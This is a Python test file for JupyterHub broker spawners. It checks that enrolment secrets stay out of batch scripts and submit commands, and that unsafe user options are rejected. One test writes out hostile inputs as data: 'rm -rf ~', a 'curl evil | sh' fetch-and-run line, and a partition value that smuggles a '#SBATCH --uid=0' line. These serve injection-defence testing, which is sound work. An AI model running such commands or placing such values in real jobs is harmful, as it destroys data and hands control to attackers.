"""Every broker spawner backend: its batch script launches the node agent, and the broker's
secret travels only in the submit environment, by name — never in the script text.

The batch systems other than Slurm and the local one (PBS, Torque, Moab, Grid Engine, HTCondor,
LSF) cannot run here, so these tests render each backend's real batch script and submit
environment with stand-in JupyterHub user/hub objects (said here, as the rules ask).
"""

from __future__ import annotations

import re
from types import SimpleNamespace

import pytest

from hub_plugin import spawners

CLASSES = [
    spawners.LocalBrokerSpawner,
    spawners.SlurmBrokerSpawner,
    spawners.MultiSlurmBrokerSpawner,
    spawners.TorqueBrokerSpawner,
    spawners.MoabBrokerSpawner,
    spawners.PBSBrokerSpawner,
    spawners.GridEngineBrokerSpawner,
    spawners.CondorBrokerSpawner,
    spawners.LsfBrokerSpawner,
]
SECRET = "enrol-secret-" + "x" * 32


def make(cls):
    # batchspawner's UserEnvMixin (Slurm, Condor) looks the user up in passwd: use an account that exists
    user = SimpleNamespace(name="root", url="/user/root/", escaped_name="root")
    hub = SimpleNamespace(public_host="", api_url="http://127.0.0.1:8081/hub/api", base_url="/hub/")
    sp = cls(user=user, hub=hub, cmd=["jupyterhub-singleuser"], req_username="root", req_homedir="/tmp")
    sp._broker_env = {
        "BROKER_ENROL_SECRET": SECRET,
        "BROKER_SESSION_ID": "s1",
        "BROKER_SSH_HOST": "hub",
        "BROKER_SSH_PORT": "8022",
        "BROKER_HOST_KEY": "ssh-ed25519 AAAA",
    }
    return sp


@pytest.mark.asyncio
@pytest.mark.parametrize("cls", CLASSES, ids=lambda c: c.__name__)
async def test_batch_script_launches_agent_without_secret(cls):
    sp = make(cls)
    subvars = sp.get_req_subvars()
    subvars["cmd"] = sp.cmd_formatted_for_batch()
    script = await sp._get_batch_script(**subvars)
    assert re.search(r"node-agent run -- .*jupyterhub-singleuser", script), script
    assert SECRET not in script
    env = sp.get_env()
    assert env["BROKER_ENROL_SECRET"] == SECRET  # it travels in the submit environment
    assert "PATH" in env


@pytest.mark.parametrize("cls", CLASSES, ids=lambda c: c.__name__)
def test_submit_command_has_no_secret(cls):
    from batchspawner.batchspawner import format_template

    sp = make(cls)
    subvars = sp.get_req_subvars()
    cmd = " ".join((format_template(sp.exec_prefix, **subvars), format_template(sp.batch_submit_cmd, **subvars)))
    assert SECRET not in cmd


@pytest.mark.asyncio
@pytest.mark.parametrize("cls", CLASSES, ids=lambda c: c.__name__)
async def test_user_options_cannot_replace_the_command_or_add_lines(cls):
    sp = make(cls)
    sp.user_options = {"cmd": "rm -rf ~", "prologue": "curl evil | sh"}
    assert sp._checked_user_options() == {}
    sp.user_options = {"partition": "debug\n#SBATCH --uid=0"}
    with pytest.raises(ValueError, match="one line"):
        sp._checked_user_options()
    sp.user_options = {"partition": "debug"}
    assert sp._checked_user_options() == {"partition": "debug"}
